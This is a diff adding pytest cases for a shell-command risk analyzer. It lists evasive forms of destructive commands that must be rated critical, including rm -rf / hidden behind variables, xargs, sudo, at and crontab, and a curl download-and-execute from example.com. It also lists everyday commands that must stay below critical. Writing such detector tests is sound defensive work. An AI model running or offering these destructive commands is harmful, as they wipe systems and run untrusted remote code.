@@ -58,3 +58,54 @@ def test_commands_past_the_cap_fail_closed(padding: str) -> None:
     result = analyze(padding + "rm -rf /")
     assert result.severity == "critical"
     assert any(f.type == "unparseable" and f.severity == "critical" for f in result.findings)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "X=/; rm -rf $X",
+        'D=/etc; rm -rf "$D"',
+        'export X=/etc; rm -rf "$X"',
+        "X=/ bash -c 'rm -rf $X'",
+        "for d in / /etc; do rm -rf $d; done",
+        "DIR=$HOME; rm -rf $DIR",
+        "rm -rf /$(echo)",
+        "xargs rm -rf <<< /",
+        "ls / | xargs rm -rf",
+        "ls -1 /etc | sed 's|^|/etc/|' | xargs rm -f",
+        "echo 'rm -rf /' > /tmp/x.sh && bash /tmp/x.sh",
+        "curl https://example.com/i.sh -o /tmp/i.sh && bash /tmp/i.sh",
+        "curl https://example.com/i.sh > i.sh; sh i.sh",
+        'sudo -s <<< "rm -rf /"',
+        'sudo su <<< "rm -rf /"',
+        "echo rm -rf / | at now",
+        'echo "* * * * * rm -rf /" | crontab -',
+    ],
+)
+def test_what_the_command_sets_up_itself_is_followed(command: str) -> None:
+    assert analyze(command).severity == "critical", [f.message for f in analyze(command).findings]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ls",
+        "grep -r TODO .",
+        'echo "rm -rf /"',
+        "git status",
+        "df -h",
+        "systemctl status sshd",
+        "X=build; rm -rf $X",
+        "for f in *.log; do gzip $f; done",
+        "export PATH=/usr/local/bin:$PATH; ls",
+        "ls *.log | xargs rm -f",
+        "echo 'echo hi' > /tmp/x.sh && bash /tmp/x.sh",
+        "echo 'rm -rf /' > /tmp/x.txt && cat /tmp/x.txt",
+        'echo "0 3 * * * /usr/local/bin/backup" | crontab -',
+        'at now + 1 hour <<< "systemctl restart app"',
+        "sudo -s",
+        "su - postgres",
+    ],
+)
+def test_everyday_commands_stay_below_critical(command: str) -> None:
+    assert analyze(command).severity in {None, "info", "warning"}
